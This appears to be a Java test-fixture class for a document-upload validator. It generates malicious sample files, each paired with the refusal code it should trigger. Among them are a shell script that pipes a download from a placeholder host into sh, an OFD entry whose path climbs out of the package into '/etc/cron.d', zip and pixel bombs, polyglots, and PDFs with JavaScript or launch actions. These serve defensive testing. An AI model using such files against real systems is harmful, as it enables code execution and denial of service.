package org.yekuo.document;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.yekuo.support.SampleFiles;

/**
 * The corpus of bad files (R-DOC-1), each made here from its recipe so that the tests show what it is: for
 * each, the message code that must refuse it.
 */
public final class BadFiles {

    private BadFiles() {
    }

    /** Name of the bad file → its bytes and the refusal it must get (a message code, or "kind" for the caller's). */
    public static Map<String, Map.Entry<byte[], String>> corpus() {
        Map<String, Map.Entry<byte[], String>> corpus = new LinkedHashMap<>();
        corpus.put("empty file", Map.entry(new byte[0], "document.file.empty"));
        corpus.put("Windows program named scan.pdf", Map.entry(windowsProgram(), "document.file.executable"));
        corpus.put("Linux program", Map.entry(linuxProgram(), "document.file.executable"));
        corpus.put("shell script", Map.entry("#!/bin/sh\ncurl http://example.invalid/x | sh\n".getBytes(StandardCharsets.US_ASCII),
                "document.file.executable"));
        corpus.put("web page named .pdf", Map.entry("<html><body><script>alert(1)</script></body></html>"
                .getBytes(StandardCharsets.US_ASCII), "kind"));
        corpus.put("plain ZIP", Map.entry(zip(Map.of("readme.txt", "hello".getBytes(StandardCharsets.US_ASCII))), "kind"));
        corpus.put("PDF cut off", Map.entry(Arrays.copyOf(SampleFiles.PDF, SampleFiles.PDF.length / 2), "document.file.malformed"));
        corpus.put("PDF header on garbage", Map.entry("%PDF-1.7\nthis is not a PDF at all\n%%EOF\n".getBytes(StandardCharsets.US_ASCII),
                "document.file.malformed"));
        corpus.put("PDF with JavaScript", Map.entry(pdfWithJavaScript(), "document.file.pdf-script"));
        corpus.put("PDF with a launch action", Map.entry(pdfWithLaunch(), "document.file.pdf-launch"));
        corpus.put("PDF with an embedded file", Map.entry(pdfWithEmbeddedFile(), "document.file.pdf-embedded"));
        corpus.put("encrypted PDF", Map.entry(encryptedPdf(), "document.file.pdf-encrypted"));
        corpus.put("PDF with a ZIP appended", Map.entry(concat(SampleFiles.PDF, zip(Map.of("a.txt", new byte[] {1}))),
                "document.file.polyglot"));
        corpus.put("JPEG that is also a PDF", Map.entry(jpegWithPdfHeader(), "document.file.polyglot"));
        corpus.put("JPEG with a ZIP appended", Map.entry(concat(SampleFiles.JPEG, zip(Map.of("a.txt", new byte[] {1}))),
                "document.file.polyglot-or-truncated"));
        corpus.put("JPEG cut off", Map.entry(Arrays.copyOf(SampleFiles.JPEG, SampleFiles.JPEG.length * 2 / 3),
                "document.file.polyglot-or-truncated"));
        corpus.put("PNG of 50000 x 50000 pixels", Map.entry(pixelBomb(), "document.file.image-too-large"));
        corpus.put("OFD zip bomb", Map.entry(ofd(Map.of("Doc_0/Res/big.xml", new byte[20 * 1024 * 1024])), "document.file.bomb"));
        corpus.put("OFD with a path out of the package", Map.entry(ofd(Map.of("../../etc/cron.d/x.xml", new byte[] {'<'})),
                "document.file.ofd-path"));
        corpus.put("OFD carrying a program", Map.entry(ofd(Map.of("Doc_0/run.exe", windowsProgram())), "document.file.ofd-entry"));
        return corpus;
    }

    /** A well-formed OFD package: {@code OFD.xml} and a document, plus {@code extra} entries. */
    public static byte[] ofd(Map<String, byte[]> extra) {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("OFD.xml", ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><ofd:OFD xmlns:ofd=\"http://www.ofdspec.org/2016\" "
                + "Version=\"1.0\" DocType=\"OFD\"><ofd:DocBody><ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>")
                .getBytes(StandardCharsets.UTF_8));
        entries.put("Doc_0/Document.xml", "<?xml version=\"1.0\"?><ofd:Document xmlns:ofd=\"http://www.ofdspec.org/2016\"/>"
                .getBytes(StandardCharsets.UTF_8));
        entries.putAll(extra);
        return zip(entries);
    }

    static byte[] windowsProgram() {
        byte[] bytes = new byte[256];
        byte[] head = "MZ\u0090\u0000\u0003\u0000\u0000\u0000\u0004\u0000\u0000\u0000\u00FF\u00FF".getBytes(StandardCharsets.ISO_8859_1);
        System.arraycopy(head, 0, bytes, 0, head.length);
        byte[] stub = "This program cannot be run in DOS mode.".getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(stub, 0, bytes, 78, stub.length);
        bytes[60] = (byte) 0x80;
        bytes[0x80] = 'P';
        bytes[0x81] = 'E';
        return bytes;
    }

    static byte[] linuxProgram() {
        byte[] bytes = new byte[128];
        bytes[0] = 0x7F;
        bytes[1] = 'E';
        bytes[2] = 'L';
        bytes[3] = 'F';
        bytes[4] = 2;
        bytes[5] = 1;
        bytes[6] = 1;
        bytes[16] = 2;
        return bytes;
    }

    private static byte[] pdfWithJavaScript() {
        return pdf(document -> document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert('hi');")));
    }

    private static byte[] pdfWithLaunch() {
        return pdf(document -> {
            PDActionLaunch launch = new PDActionLaunch();
            launch.setFile(new PDComplexFileSpecification());
            document.getDocumentCatalog().setOpenAction(launch);
        });
    }

    private static byte[] pdfWithEmbeddedFile() {
        return pdf(document -> {
            PDComplexFileSpecification spec = new PDComplexFileSpecification();
            spec.setFile("run.bat");
            spec.setEmbeddedFile(new PDEmbeddedFile(document, new java.io.ByteArrayInputStream("echo".getBytes(StandardCharsets.US_ASCII))));
            PDEmbeddedFilesNameTreeNode tree = new PDEmbeddedFilesNameTreeNode();
            tree.setNames(Map.of("run.bat", spec));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setEmbeddedFiles(tree);
            document.getDocumentCatalog().setNames(names);
        });
    }

    private static byte[] encryptedPdf() {
        return pdf(document -> document.protect(new StandardProtectionPolicy("owner-secret", "user-secret", new AccessPermission())));
    }

    private interface Change {
        void apply(PDDocument document) throws IOException;
    }

    private static byte[] pdf(Change change) {
        try (PDDocument document = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            document.addPage(new PDPage());
            change.apply(document);
            document.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A JPEG whose comment segment in its first kilobyte starts a PDF: a PDF reader opens it as one. */
    private static byte[] jpegWithPdfHeader() {
        byte[] comment = "%PDF-1.7 1 0 obj<<>>endobj".getBytes(StandardCharsets.US_ASCII);
        ByteBuffer bytes = ByteBuffer.allocate(SampleFiles.JPEG.length + comment.length + 4);
        bytes.put(SampleFiles.JPEG, 0, 2).put((byte) 0xFF).put((byte) 0xFE).putShort((short) (comment.length + 2)).put(comment)
                .put(SampleFiles.JPEG, 2, SampleFiles.JPEG.length - 2);
        return bytes.array();
    }

    /** A valid PNG header claiming 50000 x 50000 pixels over a tiny compressed body. */
    private static byte[] pixelBomb() {
        try (ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            out.write(new byte[] {(byte) 0x89, 'P', 'N', 'G', 0x0D, 0x0A, 0x1A, 0x0A});
            chunk(out, "IHDR", ByteBuffer.allocate(13).putInt(50_000).putInt(50_000).put((byte) 8).put((byte) 0).put((byte) 0)
                    .put((byte) 0).put((byte) 0).array());
            ByteArrayOutputStream deflated = new ByteArrayOutputStream();
            try (DeflaterOutputStream zip = new DeflaterOutputStream(deflated, new Deflater(9))) {
                zip.write(new byte[64 * 1024]);
            }
            chunk(out, "IDAT", deflated.toByteArray());
            chunk(out, "IEND", new byte[0]);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static void chunk(ByteArrayOutputStream out, String type, byte[] data) throws IOException {
        out.write(ByteBuffer.allocate(4).putInt(data.length).array());
        byte[] name = type.getBytes(StandardCharsets.US_ASCII);
        out.write(name);
        out.write(data);
        CRC32 crc = new CRC32();
        crc.update(name);
        crc.update(data);
        out.write(ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
    }

    static byte[] zip(Map<String, byte[]> entries) {
        try (ByteArrayOutputStream bytes = new ByteArrayOutputStream(); ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (Map.Entry<String, byte[]> entry : entries.entrySet()) {
                zip.putNextEntry(new ZipEntry(entry.getKey()));
                zip.write(entry.getValue());
                zip.closeEntry();
            }
            zip.finish();
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static byte[] concat(byte[] first, byte[] second) {
        byte[] both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }
}
